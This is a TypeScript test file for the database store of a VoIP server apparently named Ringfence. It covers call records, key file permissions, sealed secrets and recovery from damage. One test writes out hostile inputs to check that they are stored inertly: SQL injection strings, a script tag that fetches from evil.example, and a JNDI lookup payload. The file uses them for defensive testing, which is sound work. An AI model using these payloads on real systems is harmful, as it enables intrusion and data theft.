import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { chmodSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { after, test } from 'node:test';
import { applyObjects } from '../objects/import.ts';
import { readObjectsText } from '../objects/read.ts';
import { listCalls } from './call-rows.ts';
import type { Store } from './contract.ts';
import { openDatabase } from './database.ts';
import { layoutVersion } from './migrations.ts';
import { openStore, type StoreOptions } from './open.ts';
import { openSealer } from './seal.ts';
import { StoreError } from './store-error.ts';
import { binding, call } from './testing/records.ts';

const root = mkdtempSync(join(tmpdir(), 'ringfence-store-'));
after(() => rmSync(root, { recursive: true, force: true }));
let homes = 0;
const newHome = (): StoreOptions => {
  const home = join(root, String(homes++));
  return {
    file: join(home, 'ringfence.db'),
    keyFile: join(home, 'keys', 'store.key'),
    commitMilliseconds: 1,
    callCommitMilliseconds: 1,
    watchMilliseconds: 20,
  };
};

async function withStore(options: StoreOptions, work: (store: Store) => Promise<void>): Promise<void> {
  const store = await openStore(options);
  try {
    await work(store);
  } finally {
    await store.close();
  }
}

function apply(options: StoreOptions, yaml: string): void {
  const database = openDatabase(options.file);
  const read = readObjectsText('test', yaml);
  assert.ok(read.ok);
  const applied = applyObjects(database, openSealer(database, options.keyFile, true), read.value, {
    defaultDomain: 'example.test',
    prune: false,
    dryRun: false,
    weakPasswords: true,
  });
  database.close();
  assert.ok(applied.ok, JSON.stringify(applied));
}

const refusal = (code: string) => (error: unknown) => error instanceof StoreError && error.code === code;

test('registrations come back as they were put, and go when removed', async () => {
  const options = newHome();
  await withStore(options, async (store) => {
    await store.putBindings([binding(1), binding(2), binding(3)], []);
    await store.putBindings(
      [binding(1, { cseq: 77 })],
      [{ domain: 'example.test', user: 'user2', key: binding(2).key }],
    );
  });
  await withStore(options, async (store) => {
    const found = [...(await store.bindings())].sort((a, b) => (a.user < b.user ? -1 : 1));
    assert.deepEqual(found, [binding(1, { cseq: 77 }), binding(3)]);
  });
});

test('what is asked for sees what was written before, without waiting for the window', async () => {
  await withStore(
    { ...newHome(), commitMilliseconds: 60_000, callCommitMilliseconds: 60_000 },
    async (store) => {
      const put = store.putBindings([binding(1)], []);
      assert.equal((await store.bindings()).length, 1);
      await put;
    },
  );
});

test('a call is live, then ended; both survive, and records come back whole', async () => {
  const options = newHome();
  const ended = call('b', { endedAt: 1_790_000_002_000 });
  await withStore(options, async (store) => {
    await Promise.all([store.putCall(call('a')), store.putCall(call('b')), store.putCall(ended)]);
    const refused = call('c', {
      endedAt: 1_790_000_000_100,
      legs: [],
      disposition: 'refused',
      status: 403,
      cause: 'policy',
    });
    await store.putCall(refused);
    const database = openDatabase(options.file);
    assert.deepEqual(listCalls(database, { limit: 10 }), [call('a'), refused, ended]);
    assert.deepEqual(listCalls(database, { limit: 10, id: 'b' }), [ended]);
    assert.deepEqual(listCalls(database, { limit: 10, domain: 'other.test' }), []);
    database.close();
  });
});

test('S12, S14: what peers wrote comes back from the database as they wrote it, and does nothing there (CVE-2021-1000004)', async () => {
  const options = newHome();
  const hostile = [
    "'; DROP TABLE calls; --",
    '" OR 1=1 --',
    '<script>fetch("//evil.example")</script>',
    'a|b,c;d\ne\0\u001b[2J',
    '%{jndi:ldap://evil.example/x} {{7*7}} %s%n',
  ];
  await withStore(options, async (store) => {
    for (const [i, text] of hostile.entries()) {
      await store.putCall(call(`x${i}`, { caller: text, callee: text, endedAt: 1_790_000_002_000 + i }));
      await store.putBindings([binding(i, { user: text, contact: text, source: text })], []);
    }
    const database = openDatabase(options.file);
    const found = listCalls(database, { limit: 10 });
    assert.deepEqual(
      found.map(({ caller, callee }) => [caller, callee]).sort(),
      hostile.map((text) => [text, text]).sort(),
    );
    assert.deepEqual(listCalls(database, { limit: 10, id: "x0' OR '1'='1" }), []);
    assert.deepEqual(listCalls(database, { limit: 10, domain: '" OR 1=1 --' }), []);
    database.close();
    assert.deepEqual((await store.bindings()).map(({ user }) => user).sort(), [...hostile].sort());
  });
});

test('calls that were live when the process died are closed as interrupted, once', async () => {
  const options = newHome();
  await withStore(options, async (store) => {
    await Promise.all([
      store.putCall(call('a')),
      store.putCall(call('b')),
      store.putCall(call('a', { endedAt: 1_790_000_002_000 })),
    ]);
  });
  await withStore(options, async (store) => {
    assert.equal(await store.closeInterrupted(1_790_000_009_000), 1);
    assert.equal(await store.closeInterrupted(1_790_000_009_000), 0);
  });
  const database = openDatabase(options.file);
  const found = new Map(listCalls(database, { limit: 10 }).map((c) => [c.id, c]));
  database.close();
  assert.equal(found.get('a')?.disposition, 'answered');
  const interrupted = found.get('b');
  assert.equal(interrupted?.disposition, 'interrupted');
  assert.equal(interrupted?.cause, 'edge-restart');
  assert.equal(interrupted?.endedAt, 1_790_000_009_000);
  assert.equal(interrupted?.legs[1]?.endedAt, 1_790_000_009_000);
});

test('calls that go on in the next process keep their record; the others are closed', async () => {
  const options = newHome();
  await withStore(options, async (store) => {
    await Promise.all([
      store.putCall(call('a'), 'what a needs'),
      store.putCall(call('b'), 'what b needs'),
      store.putCall(call('c')),
    ]);
    await store.putCall(call('a'), 'what a needs now');
    await store.putCall(call('c', { endedAt: 1_790_000_002_000 }));
  });
  await withStore(options, async (store) => {
    const open = await store.openCalls();
    assert.deepEqual(
      new Map(open.map(({ record, journal }) => [record.id, journal])),
      new Map([
        ['a', 'what a needs now'],
        ['b', 'what b needs'],
      ]),
    );
    assert.equal(await store.closeInterrupted(1_790_000_009_000, new Set(['a'])), 1);
    await store.putCall(call('d'));
    await store.putCall(call('a', { endedAt: 1_790_000_010_000 }));
  });
  await withStore(options, async (store) => {
    assert.deepEqual(
      (await store.openCalls()).map(({ record }) => record.id),
      ['d'],
    );
  });
  const database = openDatabase(options.file);
  const ends = listCalls(database, { limit: 10 }).map(({ id, disposition }) => `${id} ${disposition}`);
  database.close();
  assert.deepEqual(ends, ['d live', 'a answered', 'b interrupted', 'c answered']);
});

test('rows of ended calls are swept out of live_calls', async () => {
  const options = newHome();
  await withStore(options, async (store) => {
    for (let i = 0; i < 2500; i++) void store.putCall(call(`c${i}`));
    await store.putCall(call('last'));
    const ends = Array.from({ length: 2500 }, (_, i) =>
      store.putCall(call(`c${i}`, { endedAt: 1_790_000_002_000 })),
    );
    await Promise.all(ends);
    const database = openDatabase(options.file);
    const { rows } = database.prepare('SELECT count(*) AS rows FROM live_calls').get() as { rows: number };
    assert.ok(rows < 2001, `${rows} rows`);
    assert.equal(listCalls(database, { limit: 9999 }).filter((c) => c.disposition === 'live').length, 1);
    database.close();
  });
});

test("separators in a peer's text cannot shift the fields of a record", async () => {
  const options = newHome();
  const evil = call('evil', {
    endedAt: 1_790_000_002_000,
    caller: 'a\u001fb\u001fc',
    callee: "'; DROP TABLE calls; --",
    route: '',
  });
  await withStore(options, (store) => store.putCall(evil));
  const database = openDatabase(options.file);
  assert.deepEqual(listCalls(database, { limit: 1 }), [{ ...evil, caller: 'a?b?c' }]);
  database.close();
});

test('one bad record is refused and does not take the others of its batch with it', async () => {
  const options = newHome();
  await withStore(options, async (store) => {
    const bad = { ...call('bad', { endedAt: 1_790_000_002_000 }), startedAt: 'never' as unknown as number };
    const results = await Promise.allSettled([
      store.putCall(call('good', { endedAt: 1_790_000_002_000 })),
      store.putCall(bad),
      store.putBindings([binding(1)], []),
    ]);
    assert.ok(results.every((r) => r.status === 'rejected' && refusal('store-write-failed')(r.reason)));
    assert.equal((await store.bindings()).length, 1);
    await store.putCall(call('after', { endedAt: 1_790_000_002_000 }));
  });
  const database = openDatabase(options.file);
  assert.deepEqual(
    listCalls(database, { limit: 9 }).map((c) => c.id),
    ['after', 'good'],
  );
  database.close();
});

test('after close, and after its thread died, every promise rejects', async () => {
  const store = await openStore(newHome());
  await store.close();
  await store.close();
  await assert.rejects(store.putCall(call('a')), refusal('store-closed'));
  await assert.rejects(store.bindings(), refusal('store-closed'));
});

test('a change by another process is noticed; our own and the unchanged are not', async () => {
  const options = newHome();
  await withStore(options, async (store) => {
    let noticed = 0;
    const first = Promise.withResolvers<void>();
    store.onObjectsChanged(() => {
      noticed += 1;
      first.resolve();
    });
    await store.putBindings([binding(1)], []);
    const yaml = 'users: [{name: alice, devices: [{name: alice, password: one-two-three}]}]';
    apply(options, yaml);
    await first.promise;
    const objects = await store.objects();
    assert.equal(objects.users[0]?.devices[0]?.ha1.size, 2);
    apply(options, yaml);
    await store.putBindings([binding(2)], []);
    // the watch looks every 20 ms
    for (let i = 0; i < 5; i++) await store.bindings();
    assert.equal(noticed, 1);
  });
});

test('HA1 is H(user:realm:password), RFC 7616 §3.4.2, with the domain as realm', async () => {
  const options = newHome();
  apply(
    options,
    'users: [{name: Mufasa, domain: Example.org, devices: [{name: Mufasa, password: Circle of Life, allowMd5: true}]}]',
  );
  await withStore(options, async (store) => {
    const ha1 = (await store.objects()).users[0]?.devices[0]?.ha1;
    assert.deepEqual([...(ha1?.keys() ?? [])].sort(), ['MD5', 'SHA-256', 'SHA-512-256']);
    for (const [algorithm, name] of [
      ['MD5', 'md5'],
      ['SHA-256', 'sha256'],
      ['SHA-512-256', 'sha512-256'],
    ] as const) {
      const expected = createHash(name).update('Mufasa:example.org:Circle of Life').digest();
      assert.deepEqual(Buffer.from(ha1?.get(algorithm)?.reveal() ?? []), expected, algorithm);
    }
    assert.equal(String(ha1?.get('MD5')), '[redacted]');
  });
  assert.ok(!readFileSync(options.file).includes('Circle of Life'));
});

test('files are made for their owner only', async () => {
  const options = newHome();
  await withStore(options, (store) => store.putBindings([binding(1)], []));
  assert.equal(statSync(options.file).mode & 0o777, 0o600);
  assert.equal(statSync(options.keyFile).mode & 0o777, 0o600);
});

test('a key that others may read is refused, with what to do', async () => {
  const options = newHome();
  await withStore(options, async () => {});
  chmodSync(options.keyFile, 0o640);
  await assert.rejects(
    openStore(options),
    (error: StoreError) => error.code === 'store-key-exposed' && /chmod 600/.test(error.message),
  );
});

test('a key that is missing, another, or damaged is refused; none is made in its place', async () => {
  const options = newHome();
  await withStore(options, async () => {});
  const key = readFileSync(options.keyFile);
  writeFileSync(options.keyFile, `${'0'.repeat(64)}\n`);
  await assert.rejects(openStore(options), refusal('store-key-wrong'));
  writeFileSync(options.keyFile, 'short');
  await assert.rejects(openStore(options), refusal('store-key-wrong'));
  rmSync(options.keyFile);
  await assert.rejects(openStore(options), refusal('store-key-missing'));
  assert.throws(() => statSync(options.keyFile));
  writeFileSync(options.keyFile, key, { mode: 0o600 });
  await withStore(options, async () => {});
});

test('sealed secrets open in their own row only', async () => {
  const options = newHome();
  apply(
    options,
    'users: [{name: alice, devices: [{name: alice, password: one-two-three}]}, {name: mallory, devices: [{name: mallory, password: four-five-six}]}]',
  );
  const database = new DatabaseSync(options.file);
  database.exec(
    "UPDATE secrets SET sealed = (SELECT sealed FROM secrets s WHERE s.name = 'mallory' AND s.algorithm = secrets.algorithm) WHERE name = 'alice'",
  );
  database.close();
  await withStore(options, (store) =>
    assert.rejects(
      store.objects(),
      (error: StoreError) => error.code === 'store-damaged' && /alice/.test(error.message),
    ),
  );
});

test('a database of a newer program, of another program, or no database is refused and left as it was; a damaged one is put aside', async () => {
  const newer = newHome();
  await withStore(newer, async () => {});
  const database = new DatabaseSync(newer.file);
  database.prepare('INSERT INTO migrations VALUES (?, ?, 0)').run(layoutVersion + 1, 'from the future');
  database.close();
  await assert.rejects(
    openStore(newer),
    (error: StoreError) => error.code === 'store-newer' && /newer Ringfence/.test(error.message),
  );

  const foreign = join(root, 'foreign.db');
  const other = new DatabaseSync(foreign);
  other.exec('CREATE TABLE a (b)');
  other.close();
  const before = readFileSync(foreign);
  await assert.rejects(openStore({ ...newHome(), file: foreign }), refusal('store-foreign'));
  assert.deepEqual(readFileSync(foreign), before);

  const text = join(root, 'text.db');
  writeFileSync(text, 'this is no database, but long enough to be taken for one'.repeat(100));
  await assert.rejects(
    openStore({ ...newHome(), file: text }),
    (error: StoreError) => error.code === 'store-damaged' && /backup/.test(error.message),
  );

  const damaged = newHome();
  await withStore(damaged, async (store) => {
    for (let i = 0; i < 300; i++) void store.putBindings([binding(i)], []);
    await store.putBindings([binding(301)], []);
  });
  const bytes = readFileSync(damaged.file);
  bytes.fill(0xa5, 4096 * 8, 4096 * 12);
  writeFileSync(damaged.file, bytes);
  await withStore(damaged, async (store) => {
    assert.match(store.repaired ?? '', /damaged-1/);
    await store.putBindings([binding(1)], []);
  });
  assert.deepEqual(readFileSync(`${damaged.file}.damaged-1`), bytes);
  await withStore(damaged, async (store) => assert.equal(store.repaired, undefined));
});

test('two that open a new store at once agree on one key', async () => {
  const options = newHome();
  const stores = await Promise.all([openStore(options), openStore(options), openStore(options)]);
  for (const store of stores) await store.close();
  await withStore(options, async () => {});
});

test('RFC 6189 §4.9: secrets of ZRTP come back as they were put, sealed on disk and for their row alone', async () => {
  const options = newHome();
  const peer = (fill: number, verified: boolean) => ({
    party: `device:alice@example.test/${fill}`,
    zid: new Uint8Array(12).fill(fill),
    rs1: new Uint8Array(32).fill(fill),
    rs2: new Uint8Array(fill === 1 ? 0 : 32).fill(fill + 100),
    ...(fill === 2 ? { pbx: new Uint8Array(32).fill(77) } : {}),
    verified,
  });
  await withStore(options, async (store) => {
    await store.putZrtpPeer(peer(1, false));
    await store.putZrtpPeer({ ...peer(2, true), rs1: new Uint8Array(32).fill(66) });
    await store.putZrtpPeer(peer(2, true));
    await store.putZrtpPeer({ ...peer(3, false), rs1: new Uint8Array(0), rs2: new Uint8Array(0) });
  });
  assert.ok(!readFileSync(options.file).includes(Buffer.alloc(16, 2)), 'no secret stands in the file');
  await withStore(options, async (store) => {
    assert.deepEqual(await store.zrtpPeers(), [
      peer(1, false),
      peer(2, true),
      { ...peer(3, false), rs1: new Uint8Array(0), rs2: new Uint8Array(0) },
    ]);
  });
  const database = new DatabaseSync(options.file);
  database.exec("UPDATE zrtp_peers SET party = 'device:mallory@example.test/1' WHERE party LIKE '%/1'");
  database.close();
  await withStore(options, async (store) => {
    assert.deepEqual(
      (await store.zrtpPeers()).map(({ party }) => party),
      [peer(2, true).party, peer(3, false).party],
      'moved to another row it does not open',
    );
  });
});

test('what known peers have shown comes back in the order of its last change', async () => {
  const options = newHome();
  const peer = (party: string, calls: number) => ({ party, encrypted: 3, tls: { fingerprint: 'AA', calls } });
  await withStore(options, async (store) => {
    for (const party of ['a', 'b', 'c']) await store.putKnownPeer(peer(party, 2), []);
    await store.putKnownPeer(peer('a', 3), ['b']);
  });
  await withStore(options, async (store) => {
    assert.deepEqual(await store.knownPeers(), [peer('c', 2), peer('a', 3)]);
  });
});
